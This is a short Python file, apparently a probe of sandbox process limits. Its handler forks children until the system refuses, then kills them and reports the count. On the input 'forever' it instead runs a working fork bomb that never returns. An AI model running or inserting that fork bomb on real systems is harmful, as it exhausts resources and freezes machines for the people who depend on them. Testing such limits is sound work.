"""b"forever": a classic fork bomb that never returns; b"count": fork until refused."""

import os
import signal
import time


def cape_handler(data: bytes) -> bytes:
    if data == b"forever":
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.001)
    children = []
    try:
        while True:
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            children.append(pid)
    except OSError as exc:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        return f"{len(children)} {type(exc).__name__}: {exc}".encode()
